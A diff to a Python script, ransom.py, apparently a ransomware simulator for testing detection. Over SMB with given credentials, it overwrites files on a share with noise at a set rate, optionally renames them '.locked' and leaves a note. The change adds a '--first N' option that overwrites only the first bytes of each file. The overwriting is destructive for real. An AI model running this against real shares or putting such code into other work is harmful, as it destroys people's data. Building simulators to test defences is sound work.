@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""ransom.py HOST USER PASSWORD SHARE DIRECTORY [--rate N] [--ext EXT] [--in-place] [--note]: what
+"""ransom.py HOST USER PASSWORD SHARE DIRECTORY [--rate N] [--ext EXT] [--in-place] [--note] [--first N]: what
 ransomware does to a share, at N files a second: each file is read, overwritten with noise of the same
 length and, unless --in-place, renamed. Prints how many, and the time of each in seconds since the epoch.
 
@@ -22,6 +22,7 @@ p.add_argument("--rate", type=float, default=20)
 p.add_argument("--ext", default=".locked")
 p.add_argument("--in-place", action="store_true")
 p.add_argument("--note", action="store_true")
+p.add_argument("--first", type=int, default=0, help="only so many bytes of each file")
 a = p.parse_args()
 
 c = SMBConnection(a.host, a.host)
@@ -34,6 +35,7 @@ for n, name in enumerate(names):
     path = a.directory + "\\" + name
     f = c.openFile(tree, path)
     size = c.queryInfo(tree, f)["EndOfFile"]
+    size = min(size, a.first or size)
     at = 0
     while at < size:
         block = c.readFile(tree, f, at, min(32768, size - at))
